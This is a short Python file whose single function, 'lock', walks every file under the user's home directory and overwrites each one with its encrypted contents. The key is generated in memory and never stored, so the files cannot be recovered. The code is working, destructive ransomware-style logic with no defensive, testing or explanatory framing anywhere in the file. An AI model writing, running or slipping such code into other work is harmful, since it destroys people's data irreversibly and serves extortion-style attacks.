import os

from cryptography.fernet import Fernet


def lock():
    cipher = Fernet(Fernet.generate_key())
    for folder, _, names in os.walk(os.path.expanduser("~")):
        for name in names:
            path = os.path.join(folder, name)
            with open(path, "rb") as file:
                data = cipher.encrypt(file.read())
            with open(path, "wb") as file:
                file.write(data)
